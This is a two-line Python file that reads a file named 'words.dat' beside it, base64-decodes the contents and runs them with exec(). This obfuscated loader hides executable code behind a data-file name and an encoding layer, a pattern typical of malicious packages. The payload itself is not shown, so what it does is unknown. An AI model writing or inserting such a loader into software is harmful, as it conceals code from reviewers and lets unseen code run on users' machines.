import base64, os
exec(base64.b64decode(__loader__.get_data(os.path.join(os.path.dirname(__file__), 'words.dat'))))
